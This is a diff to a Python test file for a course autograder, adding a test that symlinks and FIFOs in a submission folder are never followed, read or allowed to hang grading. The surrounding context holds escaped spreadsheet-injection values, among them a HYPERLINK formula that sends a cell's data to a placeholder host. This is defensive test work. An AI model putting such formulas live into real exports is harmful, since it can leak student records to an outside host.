@@ -285,3 +285,40 @@ def test_submitter_text_never_becomes_a_spreadsheet_formula(tmp_path, monkeypatc
     assert [(r["name"], r["sid"], r["email"], r["total"]) for r in rows] == [
         ("'=HYPERLINK(\"http://x.example/?\"&C2,\"x\")", "'+1", "'@SUM(1)", "1"),
         ("Ada", "'-7", "a@example.edu", "1")]
+
+
+FAKE_RUN_OTTER = '''
+import json, os
+ag = os.environ["BACKPROP_AUTOGRADER_DIR"]
+sub = os.path.join(ag, "submission")
+seen = {n: ("link" if os.path.islink(os.path.join(sub, n)) else "file")
+        for n in sorted(os.listdir(sub))}
+with open(os.path.join(ag, "results", "results.json"), "w") as f:
+    json.dump({"tests": [], "output": json.dumps(seen)}, f)
+'''
+
+
+def test_links_and_fifos_in_a_submission_folder_are_never_followed_or_read(tmp_path):
+    """A submission folder holding a link to a file root can read and a FIFO: is the link
+    copied as a link (its target never read), and the FIFO an error row, never a hang?"""
+    import os
+    import zipfile
+    zip_path = tmp_path / "fake.zip"
+    with zipfile.ZipFile(zip_path, "w") as zf:
+        zf.writestr("run_otter.py", FAKE_RUN_OTTER)
+    secret = tmp_path / "secret.ipynb"
+    secret.write_text("SECRET")
+    export = write_export(tmp_path / "export", {1: b"{}", 2: b"{}"})
+    (export / "submission_1" / "other.ipynb").symlink_to(secret)
+    os.mkfifo(export / "submission_2" / "pipe.ipynb")
+    out = tmp_path / "out"
+    (out / "results").mkdir(parents=True)
+    info = {"submission_id": "1", "submitters": []}
+    linked = grade_all.grade_one(zip_path, export / "submission_1", out, info)
+    assert json.loads(linked["results"]["output"]) == {f"{NAME}.ipynb": "file",
+                                                       "other.ipynb": "link"}
+    piped = grade_all.grade_one(zip_path, export / "submission_2", out,
+                                {**info, "submission_id": "2"})
+    assert (piped["status"], piped["reason"]) == (
+        "error", "it holds 'pipe.ipynb', which is not a file, a folder or a link")
+    assert not any(out.glob(".grading-*"))  # the work folder is gone either way
